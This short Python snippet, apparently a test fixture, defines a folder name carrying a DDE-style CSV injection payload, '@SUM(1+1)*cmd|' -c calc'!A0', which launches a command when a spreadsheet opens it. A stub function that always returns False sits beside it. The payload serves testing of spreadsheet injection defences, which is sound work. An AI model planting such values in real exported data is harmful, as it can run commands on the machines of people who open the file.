"""Attack the spreadsheet with the DDE form of CSV injection: a name starting with @."""
FOLDER = "@SUM(1+1)*cmd|' -c calc'!A0"


def is_set(cards):
    return False
